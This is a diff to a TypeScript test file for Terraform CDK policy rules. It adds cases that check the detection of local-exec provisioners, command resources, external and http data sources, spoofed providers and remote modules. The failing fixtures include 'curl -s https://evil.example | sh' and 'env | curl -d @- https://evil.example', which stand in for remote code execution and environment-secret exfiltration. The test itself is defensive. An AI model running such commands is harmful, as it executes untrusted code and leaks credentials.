@@ -2,7 +2,7 @@
  * Every policy rule on a small synthesized construct that passes it and one that fails it
  * (cdktf's Testing.synthScope). A rule without a case here fails the first test.
  */
-import { Testing } from 'cdktf';
+import { TerraformDataSource, TerraformHclModule, TerraformResource, Testing } from 'cdktf';
 import type { Construct } from 'constructs';
 import { CloudfrontDistribution, type CloudfrontDistributionConfig } from '@cdktf/provider-aws/lib/cloudfront-distribution';
 import { DataAwsIamPolicyDocument } from '@cdktf/provider-aws/lib/data-aws-iam-policy-document';
@@ -85,6 +85,21 @@ const distribution = (scope: Construct, props: Partial<CloudfrontDistributionCon
   });
 const planOf = (actions: string[]): PlanJson => ({ format_version: '1.2', resource_changes: [{ address: 'aws_sqs_queue.queue', type: 'aws_sqs_queue', mode: 'managed', change: { actions } }] });
 
+/** A resource of a type that exists to run commands (`terraform_data`, `null_resource`), running `command` if given. */
+const commandResource = (scope: Construct, type: string, command?: string) =>
+  new TerraformResource(scope, 'run', { terraformResourceType: type, provisioners: command ? [{ type: 'local-exec', command }] : undefined });
+const EXECUTION_CASES: Record<string, Case> = {
+  TM_EXEC_PROVISIONER: { pass: (s) => bucket(s), fail: (s) => new S3Bucket(s, 'bucket', { bucket: 'tm-test', provisioners: [{ type: 'local-exec', command: 'curl -s https://evil.example | sh' }] }), failure: /^a local-exec provisioner runs on the machine that applies/ },
+  TM_EXEC_COMMAND_RESOURCE: { pass: (s) => commandResource(s, 'terraform_data'), fail: (s) => commandResource(s, 'terraform_data', 'env | curl -d @- https://evil.example'), failure: /^runs a local-exec command \("env \| curl/ },
+  TM_EXEC_DATA_SOURCE: {
+    pass: (s) => new DataAwsIamPolicyDocument(s, 'doc', { statement: [{ actions: ['s3:GetObject'], resources: ['*'] }] }),
+    fail: (s) => new TerraformDataSource(s, 'ext', { terraformResourceType: 'external' }),
+    failure: /runs a program while Terraform plans/,
+  },
+  TM_EXEC_PROVIDER: { pass: (s) => { new AwsProvider(s, 'aws', { region: 'us-east-1' }); bucket(s); }, fail: (s) => commandResource(s, 'null_resource'), failure: /^provider "null" is not allowed \(allowed: aws, terraform\)/ },
+  TM_EXEC_MODULE: { pass: (s) => bucket(s), fail: (s) => new TerraformHclModule(s, 'vpc', { source: 'git::https://example.com/vpc.git' }), failure: /^module from "git::https:\/\/example.com\/vpc.git": its resources/ },
+};
+
 const CASES: Record<string, Case> = {
   CKV_AWS_19: { pass: (s) => new SecureBucket(s, 'b', { bucketName: 'tm-test', noncurrentVersionExpirationDays: 30 }), fail: (s) => bucket(s), failure: /no server-side encryption configuration/ },
   CKV_AWS_16: { pass: (s) => db(s), fail: (s) => db(s, { storageEncrypted: false }), failure: /storage_encrypted is false/ },
@@ -159,6 +174,7 @@ const CASES: Record<string, Case> = {
     plans: { pass: planOf(['update']), fail: planOf(['delete', 'create']) },
     failure: /the plan replaces it: the new one starts empty/,
   },
+  ...EXECUTION_CASES,
 };
 
 function stackOf(c: Case, which: 'pass' | 'fail'): StackView {
@@ -188,6 +204,13 @@ describe('policy rules, the cases a pass and a fail do not show', () => {
   it('443 from anywhere is only for an internet-facing load balancer\'s group', () => {
     expect(evaluate('TM_OPEN_INGRESS', (s) => openGroup(s, 443, { internal: true }))).toEqual([expect.stringMatching(/^ingress from anywhere on 443, but aws_security_group\.sg is not the group of an internet-facing load balancer$/)]);
     expect(evaluate('TM_OPEN_INGRESS', (s) => openGroup(s, 443, undefined))).toHaveLength(1);
+  });
+
+  it('refuses an allowed provider\'s name taken by another source, and a null_resource\'s command as well as its provider', () => {
+    const spoofed = new StackView({ name: 'dev', json: { terraform: { required_providers: { aws: { source: 'evil-corp/aws', version: '5.100.0' } } } }, requiredTags: [] });
+    expect(RULES.find((r) => r.id === 'TM_EXEC_PROVIDER')!.evaluate(spoofed).map((o) => o.failure)).toEqual(['provider "aws" comes from evil-corp/aws, not registry.terraform.io/hashicorp/aws']);
+    expect(evaluate('TM_EXEC_COMMAND_RESOURCE', (s) => commandResource(s, 'null_resource', 'id'))).toEqual(['runs a local-exec command ("id") with the apply role\'s credentials']);
+    expect(evaluate('TM_EXEC_DATA_SOURCE', (s) => new TerraformDataSource(s, 'get', { terraformResourceType: 'http' }))).toEqual(['fetches a URL while Terraform plans: it can send what it reads to anyone']);
   });
 
   it('a policy document that is an expression cannot be checked, and says so', () => {
